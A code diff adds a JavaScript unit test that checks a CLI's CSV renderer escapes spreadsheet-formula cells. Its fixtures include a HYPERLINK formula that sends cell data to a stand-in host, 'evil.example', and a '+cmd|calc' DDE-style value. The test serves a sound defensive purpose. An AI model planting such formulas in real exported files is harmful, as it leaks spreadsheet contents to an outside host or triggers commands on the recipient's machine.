@@ -55,4 +55,12 @@ describe('platformctl output', () => {
     expect(render({ a: 1 }, { format: 'yaml' })).toBe('a: 1\n');
     expect(JSON.parse(render({ results: [], total_count: 0 }, { format: 'json' }))).toEqual({ results: [], total_count: 0 });
   });
+
+  it('writes csv cells that would start a spreadsheet formula with a leading quote (CSV injection); typed numbers stay numbers', () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    expect(render({ results: [{ name: evil, note: '+cmd|calc' }] }, { format: 'csv' })).toBe(`name,note\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+cmd|calc\r\n`);
+    const row = { a: '@x', b: '-x', c: '\t=1', d: '\r=1', n: -5, s: '-5', i: -Infinity };
+    expect(render({ results: [row] }, { format: 'csv' })).toBe(`a,b,c,d,n,s,i\r\n'@x,'-x,'\t=1,"'\r=1",-5,'-5,'-Infinity\r\n`);
+    expect(render({ results: [{ '=h': 1 }] }, { format: 'csv' })).toBe(`'=h\r\n1\r\n`);
+  });
 });
